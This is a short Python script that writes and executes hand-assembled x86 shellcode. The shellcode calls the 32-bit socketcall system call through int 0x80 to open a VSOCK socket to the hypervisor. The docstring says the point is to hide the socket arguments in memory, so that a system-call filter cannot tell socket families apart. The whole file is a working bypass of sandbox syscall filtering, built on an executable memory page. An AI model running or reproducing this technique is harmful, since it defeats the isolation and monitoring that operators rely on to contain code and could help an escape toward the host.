"""Makes a socket to the hypervisor through socketcall(2) of 32-bit x86, and prints its number.

The arguments are in memory, where a filter of system calls cannot read them, so that it cannot
tell families of sockets apart.
"""

from __future__ import annotations

import ctypes
import socket
import struct

SYS_SOCKETCALL, SOCKET = 102, 1
PAGE = 4096
#: PROT_READ, PROT_WRITE and PROT_EXEC; MAP_PRIVATE, MAP_ANONYMOUS and MAP_32BIT.
PROTECTION, FLAGS = 7, 0x02 | 0x20 | 0x40

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
page = libc.mmap(None, PAGE, PROTECTION, FLAGS, -1, 0)
arguments = page + PAGE // 2
ctypes.memmove(arguments, struct.pack("<3I", socket.AF_VSOCK, socket.SOCK_STREAM, 0), 12)
code = (
    b"\x53"  # push rbx
    + (b"\xb8" + struct.pack("<I", SYS_SOCKETCALL))  # mov eax, …
    + (b"\xbb" + struct.pack("<I", SOCKET))  # mov ebx, …
    + (b"\xb9" + struct.pack("<I", arguments))  # mov ecx, …
    + b"\xcd\x80\x5b\xc3"  # int 0x80; pop rbx; ret
)
ctypes.memmove(page, code, len(code))
print(ctypes.CFUNCTYPE(ctypes.c_int)(page)())
